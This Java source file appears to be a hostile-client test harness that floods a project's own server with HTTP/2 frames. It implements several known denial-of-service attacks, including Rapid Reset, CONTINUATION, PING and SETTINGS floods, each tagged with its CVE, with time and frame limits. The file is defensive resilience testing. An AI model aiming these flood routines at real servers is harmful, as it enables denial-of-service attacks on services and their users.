// SPDX-License-Identifier: Apache-2.0
package dev.cairn.node.process.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

/** Floods of HTTP/2 frames that cost a client little and may cost a member much; ten seconds each, and a bound on frames. */
final class Frames {
    private static final int CONNECTIONS = 4;
    private static final long FLOOD_SECONDS = 10;
    private static final long MAX_FRAMES = 20_000_000;
    private static final int BATCH = 100;
    private static final int NO_ERROR_CANCEL = 8;
    private static final int HEADER_BYTES = 16_000;

    /** One batch of frames, the n-th on its connection. */
    private interface Batch {
        void write(Http2 connection, int number) throws IOException;
    }

    private Frames() {}

    /** CVE-2023-44487. */
    static String rapidReset(Scene scene) throws InterruptedException {
        byte[] headers = Http2.headers("KV/Range");
        byte[] cancel = ByteBuffer.allocate(4).putInt(NO_ERROR_CANCEL).array();
        return flood(scene, (connection, number) -> {
            for (int i = 0; i < BATCH; i++) {
                int stream = 2 * (number * BATCH + i) + 1;
                connection.frame(Http2.HEADERS, Http2.END_HEADERS, stream, headers);
                connection.frame(Http2.RST_STREAM, 0, stream, cancel);
            }
        });
    }

    /** CVE-2019-9515. */
    static String settings(Scene scene) throws InterruptedException {
        byte[] table = ByteBuffer.allocate(6).putShort((short) 1).putInt(4096).array();
        return flood(scene, repeat(Http2.SETTINGS, 0, table));
    }

    /** CVE-2019-9518. */
    static String emptyData(Scene scene) throws InterruptedException {
        return flood(scene, (connection, number) -> {
            if (number == 0) {
                connection.open(1, "Watch/Watch");
            }
            repeat(Http2.DATA, 1, new byte[0]).write(connection, number);
        });
    }

    /** CVE-2019-9512. */
    static String ping(Scene scene) throws InterruptedException {
        return flood(scene, repeat(Http2.PING, 0, new byte[8]));
    }

    /** CVE-2024-27316, CVE-2026-33871. */
    static String continuation(Scene scene) throws InterruptedException {
        return flood(scene, (connection, number) -> {
            if (number == 0) {
                connection.frame(Http2.HEADERS, 0, 1, Http2.headers("KV/Range"));
            }
            repeat(Http2.CONTINUATION, 1, new byte[0]).write(connection, number);
        });
    }

    static String endlessHeaders(Scene scene) throws InterruptedException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        while (block.size() < HEADER_BYTES) {
            Http2.literal(block, "x-more", "v".repeat(100));
        }
        return flood(scene, (connection, number) -> {
            if (number == 0) {
                connection.frame(Http2.HEADERS, 0, 1, Http2.headers("KV/Range"));
            }
            connection.frame(Http2.CONTINUATION, 0, 1, block.toByteArray());
        });
    }

    /** CVE-2019-9513. */
    static String priority(Scene scene) throws InterruptedException {
        return flood(scene, (connection, number) -> {
            for (int i = 0; i < BATCH; i++) {
                byte[] on = ByteBuffer.allocate(5).putInt(0).put((byte) i).array();
                connection.frame(Http2.PRIORITY, 0, 2 * (number * BATCH + i) + 1, on);
            }
        });
    }

    static String window(Scene scene) throws InterruptedException {
        byte[] one = ByteBuffer.allocate(4).putInt(1).array();
        return flood(scene, repeat(Http2.WINDOW_UPDATE, 0, one));
    }

    private static Batch repeat(int type, int stream, byte[] payload) {
        return (connection, number) -> {
            for (int i = 0; i < BATCH; i++) {
                connection.frame(type, 0, stream, payload);
            }
        };
    }

    /** A connection that the member closes is opened again, as an attacker does. */
    private static String flood(Scene scene, Batch batch) throws InterruptedException {
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(FLOOD_SECONDS);
        long frames = 0;
        long closed = 0;
        try (var senders = Executors.newFixedThreadPool(CONNECTIONS)) {
            List<Future<long[]>> running = new ArrayList<>();
            for (int i = 0; i < CONNECTIONS; i++) {
                running.add(senders.submit(() -> send(scene, batch, end)));
            }
            for (Future<long[]> each : running) {
                frames += each.get()[0];
                closed += each.get()[1];
            }
        } catch (ExecutionException e) {
            return String.valueOf(e.getCause());
        }
        return String.format(Locale.ROOT, "%,d frames, closed by the member %,d times", frames, closed);
    }

    private static long[] send(Scene scene, Batch batch, long end) throws IOException {
        long frames = 0;
        long closed = 0;
        while (goesOn(scene, frames, end)) {
            try (Http2 connection = scene.with(new Http2(scene.port())).reading()) {
                for (int number = 0; goesOn(scene, frames, end) && !connection.isGone(); number++) {
                    batch.write(connection, number);
                    connection.flush();
                    frames += BATCH;
                }
                closed += connection.isGone() ? 1 : 0;
            } catch (IOException refused) {
                closed++;
            }
        }
        return new long[] {frames, closed};
    }

    private static boolean goesOn(Scene scene, long frames, long end) {
        return frames < MAX_FRAMES / CONNECTIONS
                && System.nanoTime() - end < 0
                && scene.isAlive()
                && !Thread.currentThread().isInterrupted();
    }
}
